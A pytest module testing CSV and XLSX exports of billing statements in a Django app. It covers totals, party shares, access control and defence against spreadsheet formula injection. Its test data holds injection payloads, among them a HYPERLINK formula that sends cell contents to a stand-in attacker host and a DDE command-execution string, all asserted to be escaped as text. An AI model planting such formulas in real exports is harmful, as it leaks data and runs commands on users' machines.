"""A statement exports as CSV and XLSX (API and CLI): the lines, the total and every
party's share, amounts as exact decimal text, no text cell a formula; only its parties
may fetch it."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from decimal import Decimal

import pytest
from django.core.management import call_command
from django.utils import timezone

from gongshu.billing import exports, statements
from gongshu.orgs.principal import Principal
from tests.billing import factories as f
from tests.reads import read_once


@pytest.fixture
def statement(data_authority, transport_bureau):
    dataset = f.resource(transport_bureau)
    plan = f.plan(data_authority, [dataset], unit_price="0.0333")
    user = f.reader()
    f.agreement(user, dataset, plan)
    for _ in range(7):
        read_once(user, dataset, rows=2, bytes=20)
    [made] = statements.issue_month(timezone.localdate())
    return made, user


def test_it_exports_csv(statement, login):
    made, user = statement
    response = login(user).get(f"/api/v1/statements/{made.number}/export.csv")
    assert response.status_code == 200
    table = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert ["", "Total", "", "", "", "0.23"] in table  # 7 × 0.0333 = 0.2331
    shares = [row for row in table if row and row[0] in ("provider", "operator", "platform")]
    assert sorted(r[2] for r in shares) == ["0.02", "0.07", "0.14"]


def test_it_exports_xlsx(statement, login, tmp_path):
    made, user = statement
    response = login(user).get(f"/api/v1/statements/{made.number}/export.xlsx")
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.content)) as book:
        assert "xl/worksheets/sheet1.xml" in book.namelist()
        assert "Total" in book.read("xl/sharedStrings.xml").decode()
    out = tmp_path / "s.xlsx"
    call_command("billing", "export", made.number, "--format", "xlsx", "--output", str(out), stdout=io.StringIO())  # fmt: skip
    assert zipfile.is_zipfile(out)


def test_it_hides_a_statement_from_strangers(statement, login):
    made, _user = statement
    stranger = f.reader("other-co")
    assert login(stranger).get(f"/api/v1/statements/{made.number}/export.csv").status_code == 404


FORMULAS = ['=HYPERLINK("http://evil.example","x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"]
FORMULAS += ["\t=1", "\r=1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff201"]


def test_formula_cells_are_written_as_text_and_numbers_stay_numbers(statement, login, monkeypatch):
    made, user = statement
    table = [["Reason", *FORMULAS], ["Amount", Decimal("-12.5"), "-12.5", "+3", "1e5", 7]]
    monkeypatch.setattr(exports, "rows", lambda _statement: table)
    response = login(user).get(f"/api/v1/statements/{made.number}/export.csv")
    assert response.status_code == 200
    written = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    assert written[0] == ["Reason", *("'" + cell for cell in FORMULAS)]
    assert written[1] == ["Amount", "-12.5", "-12.5", "+3", "1e5", "7"]


def test_a_credit_notes_reason_is_never_a_formula(statement, login, data_authority):
    made, user = statement
    reason = '=HYPERLINK("http://evil.example/?"&A1,"Refund")'
    statements.credit(Principal.for_user(data_authority), made, "0.05", reason)
    client = login(user)
    table = list(
        csv.reader(
            io.StringIO(
                client.get(f"/api/v1/statements/{made.number}/export.csv").content.decode(
                    "utf-8-sig"
                )
            )
        )
    )
    [note] = [row for row in table if row and row[0].startswith("CN-")]
    assert note[1:] == ["0.05", "'" + reason]
    credited = [row for row in table if row and row[3:4] == [note[0]]]
    assert credited and all(re.fullmatch(r"-?\d+\.\d\d", row[2]) for row in credited)

    book = client.get(f"/api/v1/statements/{made.number}/export.xlsx").content
    with zipfile.ZipFile(io.BytesIO(book)) as xlsx:
        sheet = xlsx.read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in sheet  # a formula cell
        assert "HYPERLINK" in xlsx.read("xl/sharedStrings.xml").decode()
